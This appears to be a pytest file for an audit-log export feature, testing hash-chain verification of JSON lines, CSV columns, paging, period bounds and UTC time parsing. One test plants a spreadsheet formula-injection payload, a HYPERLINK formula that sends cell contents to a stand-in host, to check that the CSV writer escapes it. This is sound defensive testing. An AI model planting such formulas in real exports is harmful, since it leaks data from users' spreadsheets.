"""What an export contains, and that a JSON line can still be verified."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest

from app.audit.chain import FIRST_PREVIOUS, canonical_json, hash_of
from app.audit.export import parse_time, write_csv, write_json_lines
from app.audit.opening import make_store
from app.audit.reading import walk_found, walk_period
from tests.audit.samples import a_refusal, an_answer, write


def test_json_lines_can_be_verified(url: str) -> None:
    write(url, an_answer(1, caller="Zoë"), a_refusal())
    store, stream = make_store(url), io.StringIO()
    assert write_json_lines(walk_period(store, None, None), stream) == 4
    store.close()
    documents = map(json.loads, stream.getvalue().splitlines())
    previous = FIRST_PREVIOUS
    for document in sorted(documents, key=lambda document: int(document["seq"])):
        found = document.pop("hash")
        previous = hash_of(previous, canonical_json(document))
        assert found == previous


def test_csv_has_a_column_for_every_member(url: str) -> None:
    write(url, an_answer(1, review_reasons=["blurred", "blank"]))
    store, stream = make_store(url), io.StringIO()
    write_csv(walk_found(store, f"{1:064x}", None), stream)
    store.close()
    (row,) = csv.DictReader(io.StringIO(stream.getvalue()))
    assert row["prediction"] == "non_tumor"
    assert json.loads(row["probabilities"]) == {"viable_tumor": 0.1 + 0.2, "non_tumor": 0.7}
    assert (row["review_reasons"], row["reason"], row["seq"]) == ("blurred blank", "", "2")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_csv_has_no_formula_of_a_stranger(sqlite_url: str, start: str) -> None:
    formula = f'{start}HYPERLINK("http://192.0.2.7/?"&A1)'
    refusal = a_refusal(formula, request_id=formula, route="/=1", reason="not-found")
    write(sqlite_url, refusal, chain="-1")
    store, stream = make_store(sqlite_url), io.StringIO(newline="")
    write_csv(walk_period(store, None, None), stream)
    store.close()
    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
    (row,) = (row for row in rows if row["event"] == "refusal")
    assert (row["request_id"], row["caller"]) == (f"'{formula}", f"'{formula}")
    assert (row["route"], row["reason"], row["status"]) == ("/=1", "not-found", "429")
    assert {row["chain"] for row in rows} == {"'-1"}


def test_walk_goes_through_all_pages_in_the_order_of_time(
    url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("app.audit.reading.PAGE_ROWS", 3)
    write(url, *map(an_answer, range(10)))
    store = make_store(url)
    walked = [(row.at, row.seq) for row in walk_period(store, None, None)]
    store.close()
    assert walked == sorted(walked)
    assert len(walked) == 12


def test_period_includes_its_beginning_and_not_its_end(url: str) -> None:
    days = [parse_time(f"2026-11-{number:02}") for number in (1, 2, 3)]
    records = (an_answer(n, at=datetime.fromisoformat(text)) for n, text in enumerate(days))
    write(url, *records)
    store = make_store(url)
    found = [row.at for row in walk_period(store, days[0], days[2])]
    store.close()
    assert found == days[:2]


def test_find_by_request(url: str) -> None:
    write(url, *map(an_answer, range(3)))
    store = make_store(url)
    found = [json.loads(row.record) for row in walk_found(store, None, "request-1")]
    store.close()
    assert [document["tile_sha256"] for document in found] == [f"{1:064x}"]


@pytest.mark.parametrize(
    ("text", "at"),
    [
        ("2026-11-26", "2026-11-26T00:00:00.000000Z"),
        ("2026-11-26T14:30", "2026-11-26T14:30:00.000000Z"),
        ("2026-11-26T14:30:00+02:00", "2026-11-26T12:30:00.000000Z"),
        ("2026-11-26T14:30:00Z", "2026-11-26T14:30:00.000000Z"),
    ],
)
def test_parse_time_is_in_utc(text: str, at: str) -> None:
    assert parse_time(text) == at


@pytest.mark.parametrize(
    "text", ["", "yesterday", "2026-13-01", "26.11.2026", "0001-01-01T00:00+10"]
)
def test_parse_time_refuses_what_is_no_time(text: str) -> None:
    with pytest.raises(ValueError, match="is not a date"):
        parse_time(text)
